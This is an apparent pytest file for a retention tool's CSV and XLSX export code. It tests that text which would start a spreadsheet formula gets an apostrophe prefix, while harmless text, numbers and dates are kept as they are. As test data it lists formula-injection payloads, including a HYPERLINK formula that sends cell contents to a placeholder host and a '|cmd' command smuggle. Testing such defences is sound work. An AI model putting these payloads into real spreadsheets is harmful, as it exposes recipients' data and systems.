"""No cell of a file we write starts a formula, whatever a customer is called."""

import csv
import math
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from cs_retention.render.exports import safe_cell, write_csv, write_xlsx

FORMULAS = [
	'=HYPERLINK("http://x/?"&A1,"y")',
	"+1+1",
	"-2+3|cmd",
	"@SUM(1)",
	"\t=1+1",
	"\r=1+1",
	"\n=1+1",
	" =1+1",
	"\u3000=1+1",
	"-5",
]
HARMLESS = [
	"Harbour Noodle House",
	'say "hi"; ok\nnext line',
	"a=b",
	"3-2",
	"",
	"#N/A",
	"港湾面馆",
	"😀 e\u0301",
	"\u202eecart",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_start_a_formula_gets_an_apostrophe(text):
	assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays_as_it_is(text):
	assert safe_cell(text) == text


@pytest.mark.parametrize("number", [-5, -5.25, Decimal("-5.00"), 0, 1e308])
def test_negative_numbers_stay_numbers(number):
	assert safe_cell(number) is number


def test_dates_are_iso_text_and_nothing_is_an_empty_cell():
	assert safe_cell(date(2026, 9, 21)) == "2026-09-21"
	assert safe_cell(None) == ""


def test_control_characters_cannot_hide_a_formula():
	assert safe_cell("\x00=1+1") == "'=1+1"
	assert safe_cell("a\x00b") == "ab"


def test_csv_holds_text_numbers_quotes_and_newlines_unchanged_when_read_back(tmp_path):
	path = tmp_path / "out.csv"
	rows = [[text, number] for text, number in zip(FORMULAS + HARMLESS, range(-5, 100), strict=False)]
	assert write_csv(path, ["customer", "=score"], iter(rows)) == len(rows)
	raw = path.read_bytes()
	assert not raw.startswith(b"\xef\xbb\xbf") and raw.endswith(b"\r\n")
	with path.open(encoding="utf-8", newline="") as stream:
		header, *read = list(csv.reader(stream))
	assert header == ["customer", "'=score"]
	assert [row[0] for row in read] == ["'" + text for text in FORMULAS] + HARMLESS
	assert [int(row[1]) for row in read] == list(range(-5, len(rows) - 5))


def test_csv_is_left_alone_when_its_rows_fail_half_way(tmp_path):
	path = tmp_path / "out.csv"
	write_csv(path, ["a"], [["first"]])

	def broken():
		yield ["second"]
		raise ZeroDivisionError

	with pytest.raises(ZeroDivisionError):
		write_csv(path, ["a"], broken())
	assert path.read_bytes() == b"a\r\nfirst\r\n"
	assert [file.name for file in tmp_path.iterdir()] == ["out.csv"]


def test_xlsx_cells_are_strings_and_numbers_never_formulas_or_errors(tmp_path):
	path = tmp_path / "out.xlsx"
	texts = [text for text in FORMULAS + HARMLESS if text]
	write_xlsx(
		path, {"Ratings": (["customer", "score"], [[text, -5.5] for text in texts]), "Empty": (["a"], [])}
	)
	book = load_workbook(path)
	assert book.sheetnames == ["Ratings", "Empty"]
	rows = list(book["Ratings"].iter_rows(min_row=2))
	assert {cell.data_type for cell, _ in rows} <= {"s", "inlineStr"}
	assert all(score.data_type == "n" and math.isclose(score.value, -5.5) for _, score in rows)
	assert not any(str(cell.value).startswith(("=", "+", "-", "@")) for cell, _ in rows)
